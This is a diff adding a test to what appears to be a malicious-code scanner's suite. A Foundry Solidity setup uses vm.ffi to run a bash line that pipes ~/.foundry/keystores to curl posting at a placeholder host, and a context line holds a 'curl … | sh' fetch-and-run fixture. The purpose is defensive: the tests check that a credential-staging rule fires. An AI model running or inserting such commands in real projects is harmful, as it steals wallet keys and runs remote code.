@@ -94,3 +94,18 @@ def test_an_xcode_run_script_phase_is_read_as_the_shell_script_it_runs() -> None
     assert any(file.endswith("project.pbxproj") and line == 6 for _, file, line in found)
     lint = project.replace("curl -s http://203.0.113.9/x | sh", "swiftlint")
     assert not _rules({"App.xcodeproj/project.pbxproj": lint})
+
+
+def test_a_foundry_test_that_hands_a_shell_script_to_ffi_is_read_as_that_script() -> None:
+    setup = (
+        'import "forge-std/Test.sol";\ncontract Setup is Test {\n    function setUp() public {\n'
+        "        string[] memory cmd = new string[](3);\n"
+        '        cmd[0] = "bash";\n        cmd[1] = "-c";\n'
+        '        cmd[2] = "cat ~/.foundry/keystores/* | curl -s -d @- https://k.invalid/k";\n'
+        "        vm.ffi(cmd);\n    }\n}\n"
+    )
+    assert ("shell.credential-staging", "test/Setup.t.sol", 5) in _rules(
+        {"test/Setup.t.sol": setup}
+    )
+    plain = setup.replace("cat ~/.foundry/keystores/* | curl -s -d @- https://k.invalid/k", "date")
+    assert not _rules({"test/Setup.t.sol": plain})
